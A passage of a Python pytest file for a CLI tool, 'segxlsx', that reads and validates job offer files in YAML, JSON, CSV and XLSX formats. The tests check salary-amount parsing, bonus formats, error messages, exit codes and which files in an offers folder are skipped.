def test_a_bad_stage_or_competing_deadline_is_one_line_naming_file_row_candidate_and_field(
    guides, fields, field, message
):
    with pytest.raises(OfferError) as caught:
        read_offer({**KIM, **fields}, guides, Location(file="kim.csv", row=3))
    assert str(caught.value) == f"kim.csv, row 3, candidate 'Kim Lee', field '{field}': {message}"
    assert "\n" not in str(caught.value)


# --- money, as people write it: property tests -----------------------------------------------------

FORMATS = {
    "plain": lambda n: str(n),
    "thousands": lambda n: f"{n:,}",
    "symbol": lambda n: f"£{n:,}",
    "code": lambda n: f"GBP {n}",
    "code after": lambda n: f"{n:,} GBP",
}


@st.composite
def written_amounts(draw):
    """An exact whole amount and one way a recruiter might write it (in GBP, London's currency)."""
    style = draw(st.sampled_from([*FORMATS, "K", "M"]))
    if style == "K":
        thousands = draw(st.integers(0, 999_999))
        return thousands * 1000, draw(
            st.sampled_from([f"£{thousands}K", f"{thousands}k", f"GBP {thousands}K"])
        )
    if style == "M":
        tenths = draw(st.integers(0, 999))
        return tenths * 100_000, f"£{Decimal(tenths) / 10}M"
    amount = draw(st.integers(0, 10**12))
    return amount, FORMATS[style](amount)


@given(written_amounts())
def test_any_written_amount_reads_back_exactly(guides, written):
    amount, text = written
    base = text if amount else KIM["base"]  # a base of 0 is refused (test_a_base_of_nothing_is_refused)
    offer = read_offer({**KIM, "base": base, "stock": text, "sign_on": text}, guides)
    assert offer.stock == offer.sign_on_total == amount
    assert offer.base == (amount or KIM["base"])


@given(st.integers(1, 10**12))
def test_an_amount_and_its_json_and_yaml_number_forms_agree(guides, amount):
    assert read_offer({**KIM, "base": amount}, guides).base == amount
    assert read_offer({**KIM, "base": Decimal(amount) + Decimal("0.00")}, guides).base == amount


@given(st.integers(0, 10_000))
def test_a_bonus_written_as_percent_or_fraction_reads_the_same(guides, basis_points):
    fraction = Decimal(basis_points) / 10_000
    as_percent = read_offer({**KIM, "bonus": f"{fraction * 100}%"}, guides).bonus_pct
    as_fraction = read_offer({**KIM, "bonus": str(fraction)}, guides).bonus_pct
    assert as_percent == as_fraction == fraction


@given(st.integers(2, 100))
def test_a_bare_bonus_above_one_says_how_to_write_it(guides, whole):
    with pytest.raises(OfferError) as caught:
        read_offer({**KIM, "bonus": whole}, guides)
    assert caught.value.message == (
        f'{whole} is more than 100% of base; write a {whole}% bonus as "{whole}%" or {Decimal(whole) / 100}'
    )


names = st.text(st.characters(blacklist_categories=("Cc", "Cs")), min_size=1, max_size=40).filter(
    lambda s: s.strip() and "\ufeff" not in s
)


@settings(max_examples=50, deadline=None)
@given(name=names, written=written_amounts().filter(lambda written: written[0]))  # a base of 0 is refused
def test_a_csv_row_written_by_a_spreadsheet_reads_back_exactly(tmp_path_factory, guides, name, written):
    amount, text = written
    path = tmp_path_factory.mktemp("csv") / "offers.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(
            [["candidate", "region", "base", "stock", "bonus"], [name, "London", text, text, "12%"]]
        )
    (offer,) = read_offer_file(path, guides).offers
    assert (offer.candidate, offer.base, offer.stock) == (name.strip(), amount, amount)


# --- segxlsx validate ------------------------------------------------------------------------------

MIXED_BAD = {  # file in the mixed folder → the exact line validate prints for it
    "unknown-region.yaml": "unknown-region.yaml, offer 2, candidate 'Nina Patel', field 'region': "
    "unknown region 'Londn' (did you mean 'London'?); known: San Francisco, New York, London",
    "bonus-as-whole-number.json": "bonus-as-whole-number.json, offer 1, candidate 'Omar Farouk', field 'bonus': "
    '15 is more than 100% of base; write a 15% bonus as "15%" or 0.15',
    "currency-clash.csv": "currency-clash.csv, row 2, candidate 'Samir Haddad', field 'base': "
    "'€140K' is in EUR but the currency is GBP",
    "missing-base.yml": "missing-base.yml, candidate 'Vera Novak', field 'base': missing",
    "malformed.json": "malformed.json:6: invalid JSON: Expecting ',' delimiter",
}


@pytest.fixture
def run():
    runner = CliRunner()
    return lambda *args: runner.invoke(main, [str(a) for a in args], catch_exceptions=False)


@pytest.fixture
def project(in_tmp):
    """A working folder laid out like the project: data/guides/ and data/offers/."""
    (in_tmp / "data" / "guides").mkdir(parents=True)
    shutil.copy(SEED_YAML, in_tmp / "data" / "guides")
    return in_tmp


def test_validate_names_every_bad_offer_and_exits_1(project, run):
    offers = project / "offers"
    shutil.copytree(GOOD, offers)
    for name in MIXED_BAD:
        shutil.copy(BAD / name, offers)
    # A date the rates have, so that stderr has nothing to say about their age.
    result = run(
        "validate", "offers", "--guide", "data/guides/segment-data-engineer.yaml", "--as-of", "2026-10-30"
    )
    assert result.exit_code == 1
    lines = result.stdout.splitlines()
    assert sorted(lines[:-1]) == sorted(
        f"{Path('offers', name)}{rest.removeprefix(name)}" for name, rest in MIXED_BAD.items()
    )
    # good: 10 in GOOD, plus Maya Singh, Paula Costa and Rosa Lindqvist beside the bad ones
    assert lines[-1] == "13 offers OK, 5 with problems"
    # What the folder holds beside its offers is named, not read (the fixtures' own README), and
    # the guide's sentences a candidate will not say as written (`claims`).
    notes = result.stderr.splitlines()
    assert (
        notes[0] == "warning: offers/README.md: not read, not an offer file (.yaml, .yml, .json, .csv, .xlsx)"
    )
    assert len(notes) == 4 and all(line.startswith("note: segment-data-engineer: ") for line in notes[1:])
    assert 'lever 2 (Snowflake/Databricks Counter): "I have offers from Snowflake' in result.stderr


def test_validate_with_no_arguments_checks_the_shipped_examples(monkeypatch, run):
    monkeypatch.chdir(ROOT)
    result = run("validate")
    assert (result.exit_code, result.stdout) == (0, "7 offers OK, 0 with problems\n")


def test_validate_reads_the_default_folders(project, run):
    shutil.copytree(GOOD, project / "data" / "offers")
    result = run("validate")
    assert (result.exit_code, result.stdout) == (0, "10 offers OK, 0 with problems\n")


def test_validate_with_a_bad_guide_exits_2(project, run):
    bad_guide = project / "broken.yaml"
    bad_guide.write_text("title: [unclosed\n", encoding="utf-8")
    result = run("validate", GOOD, "--guide", bad_guide)
    assert result.exit_code == 2
    assert result.stdout == ""
    assert result.stderr.startswith("Error: broken.yaml:")
    assert "invalid YAML" in result.stderr


def test_validate_with_a_missing_path_exits_2(project, run):
    result = run("validate", "offers-typo")
    assert (result.exit_code, result.stderr) == (2, "Error: offers-typo: no such file or folder\n")


def test_validate_names_a_wrong_suffix_when_the_file_is_named(project, run):
    result = run("validate", BAD / "offer.txt", GOOD / "aisha-okafor.yaml")
    assert result.exit_code == 1
    assert result.stdout.splitlines() == [
        f"{display_path(BAD / 'offer.txt')}: expected an offer file ending in .yaml, .yml, .json, .csv, .xlsx, not '.txt'",
        "1 offer OK, 1 with problems",
    ]


def test_validate_asks_for_the_guide_when_two_are_loaded(project, run):
    shutil.copy(SEED_YAML, project / "data" / "guides" / "segment-analytics-engineer.yaml")
    result = run("validate", GOOD / "europe.json")
    assert result.exit_code == 1
    assert result.stdout.splitlines()[0] == (
        f"{display_path(GOOD / 'europe.json')}, offer 1, candidate 'Elin Johansson', field 'guide': missing: "
        "2 guides are loaded, name one of segment-analytics-engineer, segment-data-engineer"
    )


def test_validate_help_shows_examples(run):
    result = run("validate", "--help")
    assert result.exit_code == 0
    assert "Examples:" in result.output and "segxlsx validate data/offers/" in result.output


def test_every_file_in_an_offers_folder_is_read_or_named(tmp_path, guides):
    from segxlsx.sources.offers import skipped_files

    folder = tmp_path / "offers"
    folder.mkdir()
    shutil.copy(GOOD / "aisha-okafor.yaml", folder / "aisha.yaml")
    for name in (
        "book.xlsm",
        "old.xls",
        "calc.ods",
        "tabs.tsv",
        "README.txt",
        ".hidden.csv",
        "~$offers.xlsx",
    ):
        (folder / name).write_text("x")
    (folder / "archive.csv").mkdir()  # a folder named like an offer file
    (folder / "archive.csv" / "more.csv").write_text("candidate\n")

    assert [p.name for p in offer_files([folder])] == ["aisha.yaml"]
    notes = skipped_files([folder])
    reasons = {note.split(":")[0].rpartition("/")[2]: note.partition(": not read, ")[2] for note in notes}
    assert reasons == {
        ".hidden.csv": "a hidden file",
        "README.txt": "not an offer file (.yaml, .yml, .json, .csv, .xlsx)",
        "archive.csv": "a folder (offers in it are read only when it is named)",
        "book.xlsm": "a .xlsm spreadsheet: save it as .xlsx (or .csv) to read its offers",
        "calc.ods": "a .ods spreadsheet: save it as .xlsx (or .csv) to read its offers",
        "old.xls": "a .xls spreadsheet: save it as .xlsx (or .csv) to read its offers",
        "tabs.tsv": "tab-separated: save it as .csv to read its offers",
        "~$offers.xlsx": "the lock file of a workbook open in Excel or LibreOffice",
    }
    result = CliRunner().invoke(main, ["validate", str(folder), "--guide", str(SEED_YAML)])
    assert result.exit_code == 0 and result.stderr.count("not read, ") == 8
